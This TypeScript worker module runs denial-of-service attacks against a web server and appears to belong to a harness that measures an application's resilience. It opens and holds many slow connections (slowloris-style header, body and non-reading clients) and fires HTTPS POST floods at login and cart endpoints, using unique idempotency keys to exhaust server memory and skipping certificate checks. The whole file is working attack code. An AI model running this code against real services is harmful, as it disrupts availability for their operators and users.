import { Agent, request } from 'node:https';
import { connect, type Socket } from 'node:net';
import { parentPort, workerData } from 'node:worker_threads';
import { type Attacker, type AttackTally, type FloodKind, isFlood, type SlowKind } from './kinds.ts';

// Runs in a thread of its own: the visitors' times must not be those of the attack.

interface SlowClient {
  /** What it sends at once. */
  first: string;
  /** What it sends each second. */
  more: string;
  /** It reads no response. */
  isDeaf?: true;
}

const post = 'POST /cart/items HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n';
const slowClients: Record<SlowKind, SlowClient> = {
  'slow-headers': { first: 'GET /whoami HTTP/1.1\r\nHost: x\r\n', more: 'A: b\r\n' },
  'slow-bodies': { first: post, more: ' ' },
  'slow-readers': { first: 'GET /whoami HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(20), more: '', isDeaf: true },
};

/** What each request of a flood is, by its number. */
type MakeRequest = (number: number) => { path: string; body: string };

const floods: Record<FloodKind, MakeRequest> = {
  logins: (number) => ({ path: '/login', body: `{"name":"Mallory ${number}"}` }),
  newcomers: (number) => ({ path: '/cart/items', body: `{"sku":"${'x'.repeat(50)}${number}","quantity":1}` }),
};

/** It opens at most so many connections in 10 ms. */
const opensAtOnce = 50;

attack(workerData as Attacker);

function attack(attacker: Attacker): void {
  const tally: AttackTally = { begun: 0, peak: 0, statuses: {} };
  const { kind } = attacker;
  if (isFlood(kind)) flood(attacker, floods[kind], tally);
  else holdConnections(attacker, slowClients[kind], tally);
  parentPort?.once('message', () => parentPort?.postMessage(tally));
}

/** Keeps as many connections open as it can: one that was closed is replaced. */
function holdConnections(
  { http, count, from }: Attacker,
  { first, more, isDeaf }: SlowClient,
  tally: AttackTally,
): void {
  const { hostname: host, port } = new URL(http);
  const open = new Set<Socket>();
  setInterval(() => {
    for (let opened = 0; opened < opensAtOnce && open.size < count; opened++) {
      const socket = connect({ host, port: Number(port), localAddress: from });
      open.add(socket);
      tally.begun += 1;
      tally.peak = Math.max(tally.peak, open.size);
      socket.on('error', () => {});
      socket.on('close', () => open.delete(socket));
      socket.once('connect', () => socket.write(first));
      if (isDeaf) socket.pause();
      else socket.on('data', (bytes) => countStatus(tally, /^HTTP\/1.1 (\d+)/.exec(bytes.toString('latin1'))?.[1]));
    }
  }, 10);
  if (more !== '') setInterval(() => open.forEach((socket) => void socket.write(more)), 1000);
}

function flood({ https, count, from }: Attacker, make: MakeRequest, tally: AttackTally): void {
  const agent = new Agent({ keepAlive: true, maxSockets: 50 });
  setInterval(() => {
    for (let sent = 0; sent < count / 10; sent++) {
      tally.begun += 1;
      const { path, body } = make(tally.begun);
      // Its response is kept for repeats: that takes memory too.
      const headers = { 'content-type': 'application/json', 'idempotency-key': String(tally.begun) };
      const options = { method: 'POST', headers, agent, localAddress: from, rejectUnauthorized: false };
      const req = request(https + path, options, (res) => countStatus(tally, String(res.resume().statusCode)));
      req.once('error', () => countStatus(tally, 'none')).end(body);
    }
  }, 100);
}

function countStatus({ statuses }: AttackTally, status: string | undefined): void {
  if (status !== undefined) statuses[status] = (statuses[status] ?? 0) + 1;
}
